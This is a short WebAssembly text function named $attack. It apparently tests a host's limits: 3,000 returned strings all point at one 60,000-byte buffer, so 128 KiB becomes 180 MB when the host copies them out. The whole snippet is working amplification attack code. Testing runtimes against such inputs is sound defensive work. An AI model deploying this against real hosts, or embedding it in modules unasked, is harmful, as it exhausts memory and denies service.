;; Returns 3,000 texts of 60,000 bytes, all of them the same bytes: 180 MB out of 128 KiB.
(func $attack (result i32)
  (local $at i32) (local $end i32)
  (memory.fill (i32.const 0) (i32.const 0x61) (i32.const 60000))
  (local.set $at (call $alloc (i32.const 0) (i32.const 0) (i32.const 4) (i32.const 60000)))
  (call $ok (local.get $at) (i32.const 3000))
  (local.set $end (i32.add (local.get $at) (i32.const 60000)))
  (loop $next
    (i32.store8 (local.get $at) (i32.const 0))
    (i32.store offset=4 (local.get $at) (i32.const 0))
    (i32.store offset=8 (local.get $at) (i32.const 60000))
    (local.set $at (i32.add (local.get $at) (i32.const 20)))
    (br_if $next (i32.lt_u (local.get $at) (local.get $end)))))
